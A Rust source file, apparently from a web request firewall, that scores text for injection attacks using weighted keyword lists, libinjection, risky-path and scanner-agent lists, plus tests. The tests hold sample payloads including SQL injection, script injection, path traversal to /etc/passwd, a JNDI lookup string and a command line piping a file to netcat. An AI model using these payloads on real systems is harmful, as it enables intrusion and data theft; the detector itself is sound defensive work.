//! Marks of attack in texts: words of the languages that injections speak, and the fingerprints of libinjection.

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use bartizan_core::{head, tail};
use std::sync::LazyLock;

/// What a mark belongs to.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub(crate) enum AttackKind {
    Sql,
    Script,
    Traversal,
    Command,
    Template,
    Forgery,
    Serialized,
}

impl AttackKind {
    pub(crate) fn sentence(self) -> &'static str {
        match self {
            Self::Sql => "an SQL injection pattern",
            Self::Script => "a script injection pattern",
            Self::Traversal => "a path traversal pattern",
            Self::Command => "a command injection pattern",
            Self::Template => "a template or lookup injection pattern",
            Self::Forgery => "an address of an internal or foreign resource",
            Self::Serialized => "a serialised object",
        }
    }
}

use AttackKind::{Command, Forgery, Script, Serialized, Sql, Template, Traversal};

/// Words and how much each weighs. Words that normal texts contain weigh little or are not here.
const WORDS: &[(&str, AttackKind, u8)] = &[
    ("union select", Sql, 3),
    ("union all select", Sql, 3),
    ("select * from", Sql, 3),
    ("information_schema", Sql, 3),
    ("' or ", Sql, 2),
    ("\" or ", Sql, 2),
    ("or 1=1", Sql, 3),
    ("' and ", Sql, 2),
    ("waitfor delay", Sql, 3),
    ("sleep(", Sql, 2),
    ("benchmark(", Sql, 3),
    ("drop table", Sql, 3),
    ("insert into", Sql, 2),
    ("xp_cmdshell", Sql, 3),
    ("order by ", Sql, 1),
    ("group by ", Sql, 1),
    ("concat(", Sql, 2),
    ("char(", Sql, 2),
    ("extractvalue(", Sql, 3),
    ("updatexml(", Sql, 3),
    ("pg_sleep", Sql, 3),
    ("';", Sql, 2),
    ("'--", Sql, 2),
    ("-- ", Sql, 1),
    ("/*", Sql, 1),
    ("0x3", Sql, 1),
    ("select ", Sql, 1),
    (" from ", Sql, 0),
    ("||", Sql, 1),
    ("having ", Sql, 0),
    ("utl_inaddr", Sql, 3),
    ("dbms_", Sql, 3),
    ("procedure analyse", Sql, 3),
    ("cast(", Sql, 2),
    ("convert(", Sql, 2),
    ("<script", Script, 3),
    ("</script", Script, 3),
    ("javascript:", Script, 3),
    ("onerror", Script, 2),
    ("onload", Script, 2),
    ("onmouse", Script, 2),
    ("onclick", Script, 2),
    ("onfocus", Script, 2),
    ("<img", Script, 2),
    ("<svg", Script, 3),
    ("<iframe", Script, 3),
    ("<body", Script, 2),
    ("alert(", Script, 3),
    ("document.cookie", Script, 3),
    ("document.", Script, 1),
    ("eval(", Script, 2),
    ("expression(", Script, 2),
    ("<object", Script, 2),
    ("<embed", Script, 2),
    ("vbscript:", Script, 3),
    ("fromcharcode", Script, 3),
    ("srcdoc", Script, 2),
    ("<a href", Script, 1),
    ("../", Traversal, 2),
    ("..\\", Traversal, 2),
    ("..;/", Traversal, 3),
    ("/etc/", Traversal, 3),
    ("passwd", Traversal, 2),
    ("boot.ini", Traversal, 3),
    ("win.ini", Traversal, 3),
    ("/proc/self", Traversal, 3),
    ("system32", Traversal, 3),
    ("web-inf", Traversal, 3),
    ("c:\\", Traversal, 2),
    ("c:/", Traversal, 2),
    ("php://", Traversal, 3),
    ("\0", Traversal, 2),
    ("/var/log", Traversal, 2),
    ("c0%af", Traversal, 3),
    (".htaccess", Traversal, 2),
    ("id_rsa", Traversal, 3),
    ("; cat ", Command, 3),
    (";cat ", Command, 3),
    ("| cat", Command, 3),
    ("/bin/", Command, 3),
    ("$(", Command, 2),
    ("`", Command, 1),
    ("; ls", Command, 2),
    ("|ls", Command, 2),
    ("whoami", Command, 3),
    ("wget ", Command, 3),
    ("curl ", Command, 2),
    ("nslookup", Command, 3),
    ("ping -", Command, 3),
    ("cmd.exe", Command, 3),
    ("powershell", Command, 3),
    ("&& ", Command, 1),
    ("; ping", Command, 3),
    ("|id", Command, 2),
    (";id", Command, 2),
    ("netstat", Command, 3),
    ("uname -", Command, 3),
    ("/dev/tcp", Command, 3),
    ("chmod ", Command, 2),
    ("rm -rf", Command, 3),
    ("ifconfig", Command, 3),
    ("ipconfig", Command, 3),
    ("system(", Command, 3),
    ("exec(", Command, 3),
    ("passthru(", Command, 3),
    ("phpinfo(", Command, 3),
    ("set /a", Command, 3),
    ("echo ", Command, 1),
    ("<?php", Command, 3),
    ("<!--#", Command, 3),
    ("() {", Command, 3),
    ("${", Template, 2),
    ("{{", Template, 2),
    ("jndi:", Template, 3),
    ("#{", Template, 1),
    ("<%", Template, 2),
    ("__globals__", Template, 3),
    ("__class__", Template, 3),
    ("__import__", Template, 3),
    ("t(java", Template, 3),
    ("getruntime", Template, 3),
    ("ognl", Template, 2),
    ("%{", Template, 1),
    ("__proto__", Template, 3),
    ("$where", Template, 3),
    ("$ne\"", Template, 2),
    ("<!entity", Template, 3),
    ("<!doctype", Template, 2),
    ("169.254.169.254", Forgery, 3),
    ("file://", Forgery, 3),
    ("gopher://", Forgery, 3),
    ("dict://", Forgery, 3),
    ("ldap://", Forgery, 3),
    ("metadata.google", Forgery, 3),
    ("http://127.", Forgery, 2),
    ("http://localhost", Forgery, 2),
    ("ro0ab", Serialized, 3),
    ("gasv", Serialized, 3),
    ("o:8:\"", Serialized, 3),
    ("aced0005", Serialized, 3),
    ("!!python", Serialized, 3),
];

static AUTOMATON: LazyLock<AhoCorasick> = LazyLock::new(|| {
    let words = WORDS.iter().map(|w| w.0);
    let built = AhoCorasickBuilder::new().ascii_case_insensitive(true).match_kind(MatchKind::Standard).build(words);
    built.unwrap_or_else(|e| unreachable!("the table is small: {e}"))
});

/// What one text carries.
#[derive(Clone, Copy, Debug, Default)]
pub(crate) struct Marks {
    /// Sum of the weights of the different words found.
    pub(crate) weight: u32,
    /// The heaviest kind.
    pub(crate) kind: Option<AttackKind>,
    pub(crate) traversal: u32,
    pub(crate) sqli: bool,
    pub(crate) xss: bool,
}

/// Longest part of a text that is looked at closely. Behind it, only words are searched for.
const MAX_CLOSE: usize = 8_192;
/// Words as long as this, or with other characters than letters and digits, mean something wherever they stand. Shorter ones are in
/// any long text of Base64 by chance.
const TELLING_WORD: usize = 8;

/// For each word, whether it means something far behind the beginning of a text.
static TELLING: LazyLock<Vec<bool>> = LazyLock::new(|| {
    WORDS.iter().map(|(word, ..)| word.len() >= TELLING_WORD || !word.bytes().all(|b| b.is_ascii_alphanumeric())).collect()
});

impl Marks {
    /// Looks for words only. Agents and languages of browsers are full of what libinjection takes time to tell from code.
    pub(crate) fn of_header(value: &str) -> Self {
        let mut marks = Self::default();
        marks.search(value);
        marks
    }

    /// Looks at a decoded text. Plain words and numbers are passed over without a search. What libinjection is asked of is the
    /// beginning of a long text and its end.
    pub(crate) fn of(text: &str) -> Self {
        let mut marks = Self::default();
        if text.len() < 3 {
            return marks;
        }
        if is_plain(text) {
            if text.len() >= 16 {
                marks.search(text);
            }
            return marks;
        }
        marks.search(text);
        marks.inject(head(text, MAX_CLOSE));
        if text.len() > MAX_CLOSE {
            marks.inject(tail(text, MAX_CLOSE));
        }
        if marks.kind.is_none() {
            marks.kind = if marks.sqli { Some(Sql) } else { marks.xss.then_some(Script) };
        }
        marks
    }

    fn inject(&mut self, text: &str) {
        if could_inject(text) {
            self.sqli |= libinjectionrs::detect_sqli(text.as_bytes()).is_injection();
            self.xss |= text.contains(['<', ':', '=', '`']) && libinjectionrs::detect_xss(text.as_bytes()).is_injection();
        }
    }

    fn search(&mut self, text: &str) {
        let (mut seen, mut heaviest) = ([false; WORDS.len()], 0);
        for found in AUTOMATON.find_overlapping_iter(text) {
            let word = found.pattern().as_usize();
            if seen[word] || (found.end() > MAX_CLOSE && !TELLING[word]) {
                continue;
            }
            seen[word] = true;
            let (_, kind, weight) = WORDS[word];
            self.weight += u32::from(weight);
            self.traversal += u32::from(kind == Traversal && weight > 0);
            if weight > heaviest {
                (heaviest, self.kind) = (weight, Some(kind));
            }
        }
    }
}

/// Whether a text is one word of letters, digits, dashes and single dots.
fn is_plain(text: &str) -> bool {
    text.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.')) && !text.contains("..")
}

/// Whether a text has anything that could end a literal or begin a tag or clause.
fn could_inject(text: &str) -> bool {
    text.bytes().any(|b| matches!(b, b'\'' | b'"' | b'<' | b'>' | b'(' | b')' | b';' | b'=' | b'#' | b'*' | b'`' | b'|' | b'&' | b'\\'))
        || text.contains("--")
        || text.bytes().filter(|b| *b == b' ').count() >= 2
}

/// Words of paths that attackers ask for, with their risk.
const RISKY: &[(&str, u8)] = &[
    ("admin", 1),
    (".env", 3),
    (".git", 3),
    (".svn", 3),
    ("backup", 2),
    (".bak", 3),
    (".sql", 3),
    ("wp-login", 3),
    ("wp-admin", 3),
    ("phpmyadmin", 3),
    ("config", 1),
    ("shell", 2),
    (".php~", 3),
    ("cgi-bin", 2),
    ("/debug", 2),
    ("actuator", 2),
    ("console", 1),
    ("delete", 1),
    ("drop", 1),
    ("passwd", 3),
    ("/.", 2),
    ("..", 3),
    ("setup", 1),
    ("install", 1),
    ("xmlrpc", 3),
    ("server-status", 3),
    ("trace.axd", 3),
    ("web.config", 3),
    (".old", 2),
    (".swp", 3),
    ("id_rsa", 3),
    ("credentials", 2),
    ("/etc/", 3),
    ("boot.ini", 3),
    ("manager/html", 3),
    ("solr", 2),
    ("jmx", 2),
    ("struts", 3),
    ("secret", 1),
    ("internal", 1),
    ("root", 1),
    ("exec", 2),
    ("/proc/", 3),
    (".htaccess", 3),
    (".ds_store", 3),
    ("phpinfo", 3),
    (".aspx", 1),
    ("vendor/", 2),
    ("dump", 2),
    ("export", 1),
];

static RISKY_AUTOMATON: LazyLock<AhoCorasick> = LazyLock::new(|| {
    let built = AhoCorasickBuilder::new().ascii_case_insensitive(true).build(RISKY.iter().map(|w| w.0));
    built.unwrap_or_else(|e| unreachable!("the table is small: {e}"))
});

/// Risk of a decoded path: the sum of its words', at most 12.
pub(crate) fn path_risk(path: &str) -> u32 {
    RISKY_AUTOMATON.find_iter(path).map(|m| u32::from(RISKY[m.pattern().as_usize()].1)).sum::<u32>().min(12)
}

/// Agents: scanners and attack tools 3, robots that say nothing good of themselves 2, plain tools and libraries 1.
const AGENTS: &[(&str, u8)] = &[
    ("sqlmap", 3),
    ("nikto", 3),
    ("nmap", 3),
    ("masscan", 3),
    ("zgrab", 3),
    ("nessus", 3),
    ("netsparker", 3),
    ("acunetix", 3),
    ("dirbuster", 3),
    ("gobuster", 3),
    ("wpscan", 3),
    ("nuclei", 3),
    ("hydra", 3),
    ("burp", 3),
    ("arachni", 3),
    ("w3af", 3),
    ("badbot", 3),
    ("evil", 3),
    ("scan", 2),
    ("exploit", 3),
    ("attack", 3),
    ("${", 3),
    ("<", 3),
    ("'", 2),
    ("bot", 1),
    ("crawl", 1),
    ("spider", 1),
    ("curl/", 1),
    ("wget", 1),
    ("python", 1),
    ("go-http", 1),
    ("java/", 1),
    ("libwww", 1),
    ("ruby", 1),
    ("perl", 1),
    ("okhttp", 0),
    ("httpclient", 1),
];

static AGENT_AUTOMATON: LazyLock<AhoCorasick> = LazyLock::new(|| {
    let built = AhoCorasickBuilder::new().ascii_case_insensitive(true).build(AGENTS.iter().map(|w| w.0));
    built.unwrap_or_else(|e| unreachable!("the table is small: {e}"))
});

/// Risk of an agent, 0 to 3.
pub(crate) fn agent_risk(agent: &str) -> u32 {
    AGENT_AUTOMATON.find_iter(agent).map(|m| u32::from(AGENTS[m.pattern().as_usize()].1)).max().unwrap_or(0)
}

#[cfg(test)]
mod tests {
    use super::{AttackKind, Marks, agent_risk, path_risk};

    #[test]
    fn attacks_are_marked_and_normal_texts_are_not() {
        for (text, kind) in [
            ("1' OR '1'='1' -- ", AttackKind::Sql),
            ("1 UNION SELECT password FROM users", AttackKind::Sql),
            ("<script>alert(1)</script>", AttackKind::Script),
            ("../../../../etc/passwd", AttackKind::Traversal),
            ("; cat /tmp/x | nc 10.0.0.1 4444", AttackKind::Command),
            ("${jndi:ldap://x/a}", AttackKind::Template),
            ("http://169.254.169.254/latest/meta-data", AttackKind::Forgery),
        ] {
            let marks = Marks::of(text);
            assert_eq!(marks.kind, Some(kind), "{text}: {marks:?}");
            assert!(marks.weight >= 2, "{text}: {marks:?}");
        }
        for text in
            ["12 Mill Lane", "Wells, upon Sea", "k7m2", "ann.lee@mail.example", "42", "red large lamp", "2026-01-31T09:30:00Z", "O'Brien"]
        {
            let marks = Marks::of(text);
            assert!(marks.weight <= 1 && !marks.sqli && !marks.xss, "{text}: {marks:?}");
        }
    }

    #[test]
    fn attacks_behind_padding_are_marked() {
        for padding in [1_000, 8_192, 65_536, 524_288] {
            for (pad, attack, kind) in [
                ("lorem ipsum ", "1 UNION SELECT password FROM users", AttackKind::Sql),
                ("lorem ipsum ", "<script>alert(1)</script>", AttackKind::Script),
                ("a", "${jndi:ldap://x/a}", AttackKind::Template),
                ("QUJD", "/../../../etc/passwd", AttackKind::Traversal),
            ] {
                let padded = format!("{}{attack}", pad.repeat(padding / pad.len()));
                let marks = Marks::of(&padded);
                assert_eq!(marks.kind, Some(kind), "{padding} {attack}: {marks:?}");
                assert!(marks.weight >= 2, "{padding} {attack}: {marks:?}");
                assert!(Marks::of_header(&padded).weight >= 2, "{padding} {attack}");
            }
        }
        // Base64 of a long upload has short words by chance.
        let upload = format!("{}gASVognl{}", "QUJD".repeat(5_000), "QUJD".repeat(5_000));
        assert_eq!(Marks::of(&upload).weight, 0);
        assert!(Marks::of("gASVKgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjA==").weight >= 3);
    }

    #[test]
    fn paths_and_agents_have_their_risks() {
        assert!(path_risk("/api/admin/delete") > path_risk("/api/users/profile"));
        assert!(path_risk("/.git/config") >= 3);
        assert_eq!(path_risk("/api/v1/orders"), 0);
        assert_eq!(["Mozilla/5.0 (X11)", "curl/8.5.0", "BadBot/1.0", "sqlmap/1.7"].map(agent_risk), [0, 1, 3, 3]);
    }
}
